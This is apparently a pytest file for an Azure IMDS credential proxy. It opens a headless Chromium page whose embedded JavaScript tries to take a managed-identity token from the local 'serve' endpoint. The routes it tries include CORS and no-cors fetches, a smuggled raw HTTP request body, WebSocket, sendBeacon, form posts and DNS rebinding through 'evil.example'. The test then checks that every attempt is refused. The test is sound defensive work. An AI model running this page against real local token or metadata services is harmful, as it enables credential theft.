"""A real browser (Chromium) shows a page that wants a token from `azure-imds serve`, and gets none."""

from __future__ import annotations

import json
import queue
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import ProxyHandler, Request, build_opener

import pytest
from proving import tool

from azure_imds_credential.testing import ImdsEmulator

TARGET = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net"
SECONDS = 240  # for a browser on a busy machine
CHROMIUM = ("chromium", "google-chrome")
REBOUND = "evil.example"  # a name of the page's owner that leads to this machine (DNS rebinding)

# Each way of a page to send a request, to serve by address, by name and by the page's own name. At `ready` the test
# gives the page's own port to serve; then the page asks its own origin.
PAGE = """<!doctype html><body><script>
const { report, places, target } = FACTS;
const tell = (how, got) => fetch(report, { method: "POST", mode: "no-cors", body: JSON.stringify([how, String(got)]) });
const attempt = async (how, url, options) => {
  try {
    const answer = await fetch(url, options);
    await tell(how, answer.type + " " + answer.status + " " + (await answer.text()));
  } catch (error) { await tell(how, "refused"); }
};
const element = (how, name, url) => new Promise((done) => {
  const made = document.createElement(name);
  made.onload = () => done(tell(how, "loaded"));
  made.onerror = () => done(tell(how, "refused"));
  made.src = url;
  document.body.append(made);
});
const socket = (how, url) => new Promise((done) => {
  const made = new WebSocket(url.replace("http", "ws"));
  made.onopen = () => done(tell(how, "opened"));
  made.onerror = () => done(tell(how, "refused"));
});
const form = (url) => {
  const frame = document.createElement("iframe"), made = document.createElement("form");
  frame.name = "frame";
  Object.assign(made, { action: url, target: "frame", method: "get" });
  document.body.append(frame, made);
  made.submit();
};
(async () => {
  const metadata = { headers: { Metadata: "true" } };
  const hidden = "GET " + target + " HTTP/1.1\\r\\nMetadata: true\\r\\n\\r\\n";
  for (const place of places) {
    const url = place + target;
    await attempt("cors", url);
    await attempt("cors with the header", url, metadata);
    await attempt("no-cors", url, { mode: "no-cors" });
    await attempt("no-cors with the header", url, { mode: "no-cors", ...metadata });
    await attempt("a body", url, { method: "POST", mode: "no-cors", body: hidden });
    await attempt("health", place + "/healthz");
    await attempt("metrics", place + "/metrics");
    await element("image", "img", url);
    await element("script", "script", place + "/healthz");
    await socket("socket", url);
    navigator.sendBeacon(url, hidden);
    form(url);
  }
  await tell("ready", "");
  for (let text = "page"; text === "page"; await new Promise((done) => setTimeout(done, 100))) {
    try {
      const answer = await fetch(target, { cache: "no-store", ...metadata });
      text = await answer.text();
      if (text !== "page") await tell("own origin", answer.status + " " + text);
    } catch (error) { /* between the two servers */ }
  }
})();
</script>"""


@contextmanager
def server(answer: Callable[[str, bytes], bytes]) -> Iterator[ThreadingHTTPServer]:
    """Run a server that answers path and body with HTML, one request per connection."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            said = answer(self.path, self.rfile.read(int(self.headers["Content-Length"] or 0)))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)

        do_POST = do_GET  # noqa: N815 # the name that http.server looks for

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        thread = threading.Thread(target=running.serve_forever)
        thread.start()
        try:
            yield running
        finally:
            running.shutdown()
            thread.join()


@contextmanager
def serve(imds: ImdsEmulator, port: int = 0) -> Iterator[str]:
    command = [sys.executable, "-m", "azure_imds_credential", "serve", "--port", str(port), "--endpoint", imds.endpoint]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        yield process.stdout.readline().strip().partition("=")[2]
        process.terminate()


@contextmanager
def browser(url: str, folder: Path) -> Iterator[None]:
    """Show a page in Chromium, which finds nothing but this machine."""
    command = [
        tool(next(filter(shutil.which, CHROMIUM), CHROMIUM[0])),
        "--headless=new",
        "--no-sandbox",  # it does not start as root otherwise
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-background-networking",
        "--no-first-run",
        "--proxy-server=direct://",
        f"--user-data-dir={folder}",
        f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
        "--remote-debugging-port=0",  # so that it stays
        url,
    ]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        try:
            yield
        finally:
            process.terminate()
            with suppress(subprocess.TimeoutExpired):
                process.wait(30)
            process.kill()


def metrics(url: str) -> str:
    return build_opener(ProxyHandler({})).open(url + "/metrics").read().decode()


def token(url: str) -> str:
    request = Request(url + TARGET, headers={"Metadata": "true"})
    return str(json.load(build_opener(ProxyHandler({})).open(request))["access_token"])


def test_page_gets_no_token(tmp_path: Path) -> None:
    """A page reads no answer of serve, its requests are refused, and after DNS rebinding it reads the refusal alone."""
    pytest.importorskip("prometheus_client")
    told: queue.Queue[list[str]] = queue.Queue()

    def report(_: str, body: bytes) -> bytes:
        told.put(json.loads(body))
        return b""

    page = bytearray()
    with ImdsEmulator() as imds, serve(imds) as url, server(report) as reports, ExitStack() as shown:
        held = token(url)
        imds.clear_requests()
        with server(lambda path, _: bytes(page) if path == "/" else b"page") as owner:
            port, serves_on = owner.server_port, url.rpartition(":")[2]
            places = [f"http://{host}:{serves_on}" for host in ("127.0.0.1", "localhost", REBOUND)]
            facts = {"report": f"http://127.0.0.1:{reports.server_port}/", "places": places, "target": TARGET}
            page += PAGE.replace("FACTS", json.dumps(facts)).encode()
            shown.enter_context(browser(f"http://{REBOUND}:{port}/", tmp_path))
            got = list(iter(lambda: told.get(timeout=SECONDS), ["ready", ""]))
        with serve(imds, port):
            last = told.get(timeout=SECONDS)
            shown.close()
        counted = metrics(url)

    assert [how for how, _ in got].count("cors with the header") == len(places)
    assert {answer for _, answer in got} == {"refused", "opaque 0 "}  # a page cannot look into an opaque answer
    assert last[0] == "own origin"
    assert last[1].startswith("403 ")
    assert held not in str([*got, last])
    assert imds.requests == []
    assert 'azure_imds_serve_requests_total{path="token",status="200"} 1.0' in counted  # the test's own
    assert '{path="healthz"' not in counted
    assert '{path="metrics"' not in counted
    for reason in ("browser", "host", "method"):
        assert f'azure_imds_serve_refused_requests_total{{reason="{reason}"}}' in counted
